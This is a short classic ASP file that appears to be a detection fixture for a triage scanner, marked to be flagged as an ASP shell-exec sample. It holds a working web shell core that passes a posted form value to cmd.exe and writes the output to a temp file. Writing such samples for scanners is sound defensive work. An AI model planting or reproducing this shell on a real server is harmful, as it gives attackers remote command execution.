<%
' triage-expect: triage_asp_shell_exec
' CmdAsp shape: the form's command through cmd.exe /c, output through a temp file.
Set sh = Server.CreateObject("WScript.Shell")
Set fs = Server.CreateObject("Scripting.FileSystemObject")
c = Request.Form("c")
tmp = "C:\Windows\Temp\" & fs.GetTempName()
If c <> "" Then Call sh.Run("cmd.exe /c " & c & " > " & tmp, 0, True)
%>
